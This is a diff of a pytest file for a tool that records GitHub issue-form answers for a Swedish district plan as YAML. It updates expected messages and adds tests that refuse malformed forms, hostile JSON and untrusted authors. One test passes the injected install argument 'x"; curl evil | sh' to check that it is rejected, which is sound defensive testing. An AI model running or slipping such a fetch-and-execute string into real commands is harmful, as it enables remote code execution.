@@ -206,7 +206,7 @@ def test_the_reply_is_the_fact_or_what_to_fix(repo: Path, invoke: Invoke) -> Non
     answers = {"goal": "kandidatutbildning: x", "date": "2025-10-01", "note": "@channel <b>hej</b>"}
     assert send(repo, invoke, event("done", answers), "--comment", str(reply)).exit_code == 0
     text = reply.read_text(encoding="utf-8")
-    assert text.startswith("Registrerat i plans/2025.progress.yaml")
+    assert text.startswith("Uppgiften är kontrollerad och lagd i plans/2025.progress.yaml")
     assert "```yaml\ndone:\n" in text and "note: '@channel <b>hej</b>'" in text  # in a code block
     bad = send(
         repo,
@@ -227,7 +227,7 @@ def test_the_reply_is_the_fact_or_what_to_fix(repo: Path, invoke: Invoke) -> Non
     [
         (
             {"date": "2025-03-14", "kind": "rave", "title": "x"},
-            "kind: rave is not one of the choices",
+            "'Kind of activity': rave is not one of the choices",
         ),
         (
             {"date": "2025-03-14", "kind": "workshop", "title": "x", "participants": "9" * 40},
@@ -235,11 +235,14 @@ def test_the_reply_is_the_fact_or_what_to_fix(repo: Path, invoke: Invoke) -> Non
         ),
         ({"date": "2025-03-14", "kind": "workshop", "title": "a\x1b[31mb"}, "not recorded"),
         ({"date": "2025-03-14", "kind": "workshop", "title": "x" * 3000}, "longer than 2000"),
-        ({"date": "2025-03-14", "kind": "workshop", "title": ""}, "the field title is empty"),
+        (
+            {"date": "2025-03-14", "kind": "workshop", "title": ""},
+            "the field 'What was it?' is empty",
+        ),
         ({"date": "2099-03-14", "kind": "workshop", "title": "x"}, "not recorded"),
         (
             {"date": "2025-03-14", "kind": "workshop", "title": "x", "branches": "Mars"},
-            "branches: Mars is not one of the choices",
+            "'Branches': Mars is not one of the choices",
         ),
     ],
 )
@@ -395,5 +398,78 @@ def test_the_workflow_runs_end_to_end_without_github(
     assert "pr create --head stc/issue-42 --title Fact from issue #42 --body Closes #42" in asked
     assert f"issue comment 42 --body-file {runner_temp}/reply.md" in asked
     reply = (runner_temp / "reply.md").read_text(encoding="utf-8")
-    assert reply.startswith("Registrerat i plans/2025.progress.yaml")
+    assert reply.startswith("Uppgiften är kontrollerad och lagd i plans/2025.progress.yaml")
     assert reply.rstrip().endswith("https://github.example/district/plan/pull/7")
+
+
+def test_a_form_must_be_the_plans_form(repo: Path, invoke: Invoke) -> None:
+    """A heading twice (a note that holds one), a heading the form does not have (an old
+    form), or a field missing: refused in one line, never a changed or dropped answer."""
+    good = event("activity", {"date": "2025-03-14", "kind": "workshop", "title": "x"}, lang="en")
+    body = good["issue"]["body"]
+    twice = json.loads(json.dumps(good))
+    twice["issue"]["body"] = body.replace("_No response_", "### Date\n\n2025-01-02", 1)
+    result = send(repo, invoke, twice, "--lang", "en")
+    assert result.exit_code == 1 and "the field 'Date' is there twice" in result.stderr
+    unknown = json.loads(json.dumps(good))
+    unknown["issue"]["body"] = body + "\n\n### Members in Old branch\n\n12"
+    result = send(repo, invoke, unknown, "--lang", "en")
+    assert result.exit_code == 1 and "a field Members in Old branch that the plan" in result.stderr
+    gone = json.loads(json.dumps(good))
+    gone["issue"]["body"] = body.split("### Who initiated it?")[0]
+    result = send(repo, invoke, gone, "--lang", "en")
+    assert result.exit_code == 1 and "the field 'Who initiated it?' is missing" in result.stderr
+    assert not facts(repo)
+    lines = event(
+        "done", {"goal": "kandidatutbildning: x", "date": "2025-10-01", "note": "Rad ett\nrad två"}
+    )
+    assert send(repo, invoke, lines).exit_code == 0
+    assert facts(repo)["done"][0]["note"] == "Rad ett rad två"  # a note is one line
+
+
+@pytest.mark.parametrize(
+    "issue",
+    [
+        {"number": 1, "author_association": "OWNER", "labels": None, "body": "x"},
+        {"number": 1, "author_association": "OWNER", "labels": 7, "body": "x"},
+        {"number": "abc", "author_association": "OWNER", "labels": [], "body": "x"},
+    ],
+)
+def test_events_of_the_wrong_shape_are_refused(repo: Path, invoke: Invoke, issue: Any) -> None:
+    result = send(repo, invoke, {"issue": issue}, "--lang", "en")
+    assert result.exit_code == 1 and "is not an stc form" in result.stderr
+
+
+@pytest.mark.parametrize("raw", [b"[" * 100_000, b'{"issue": ' + b"9" * 5000 + b"}"])
+def test_hostile_json_is_refused_not_a_crash(repo: Path, invoke: Invoke, raw: bytes) -> None:
+    path = repo / "event.json"
+    path.write_bytes(raw)
+    result = invoke("record", "from-issue", str(path), "--lang", "en")
+    assert result.exit_code == 1 and "not valid JSON" in result.stderr
+
+
+def test_untrusted_authors_are_told_politely_and_trusted_by_file(
+    repo: Path, invoke: Invoke
+) -> None:
+    answers = {"goal": "kandidatutbildning: x", "date": "2025-10-01"}
+    stranger = event("done", answers, association="NONE", login="Okand")
+    reply = repo / "reply.md"
+    assert send(repo, invoke, stranger, "--comment", str(reply)).exit_code == 1
+    said = reply.read_text(encoding="utf-8")
+    assert "bara repots ägare, medlemmar och medarbetare" in said
+    assert "Rätta formuläret" not in said  # editing would not help
+    trusted = repo / "trusted.txt"
+    trusted.write_text("# kansliet\nokand  # in any case\n", encoding="utf-8")
+    assert send(repo, invoke, stranger, "--trusted-file", str(trusted)).exit_code == 0
+    both = send(repo, invoke, stranger, "--dry-run", "--comment", str(reply))
+    assert both.exit_code == 2
+
+
+def test_running_stc_forms_again_keeps_the_districts_settings(repo: Path, invoke: Invoke) -> None:
+    assert invoke("forms").exit_code == 0
+    settings = repo / ".github" / "stc-requirements.txt"
+    settings.write_text("git+https://github.com/district/stc.git@v1\n", encoding="utf-8")
+    assert invoke("forms").exit_code == 0
+    assert settings.read_text(encoding="utf-8") == "git+https://github.com/district/stc.git@v1\n"
+    bad = invoke("forms", "--install", 'x"; curl evil | sh')
+    assert bad.exit_code == 2
